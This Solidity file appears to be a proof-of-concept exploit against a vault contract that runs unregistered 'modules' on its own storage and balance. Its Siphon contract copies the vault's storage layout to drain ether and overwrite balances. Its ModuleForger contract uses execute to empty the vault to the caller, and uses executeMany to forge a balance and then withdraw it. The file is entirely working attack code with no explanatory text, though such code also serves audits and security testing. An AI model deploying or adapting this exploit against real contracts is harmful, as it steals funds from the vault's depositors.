// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IVault {
    function execute(address module, bytes calldata data) external payable returns (bytes memory);

    function executeMany(address[] calldata modules, bytes calldata data, uint256[] calldata ends) external;
}

/// "Modules" that nobody registered. They run on the vault's storage and balance.
contract Siphon {
    address private owner;
    uint256 private totalBalance;
    uint256 private feesAccrued;
    uint256 private moveFeeBps;
    mapping(address => uint256) private balanceOf;

    function drain(address payable to, uint256 amount) external {
        to.transfer(amount);
    }

    function credit(address account, uint256 amount) external {
        balanceOf[account] = amount;
    }
}

contract ModuleForger {
    function run(IVault vault) external {
        Siphon siphon = new Siphon();
        vault.execute(address(siphon), abi.encodeCall(Siphon.drain, (payable(msg.sender), address(vault).balance)));
    }

    function runMany(IVault vault, address savings, uint256 amount) external {
        address[] memory modules = new address[](2);
        modules[0] = address(new Siphon());
        modules[1] = savings;
        bytes memory first = abi.encodeCall(Siphon.credit, (address(this), amount));
        uint256[] memory ends = new uint256[](2);
        ends[0] = first.length;
        bytes memory data = bytes.concat(first, abi.encodeWithSignature("withdraw(address,uint256)", msg.sender, amount));
        ends[1] = data.length;
        vault.executeMany(modules, data, ends);
    }
}
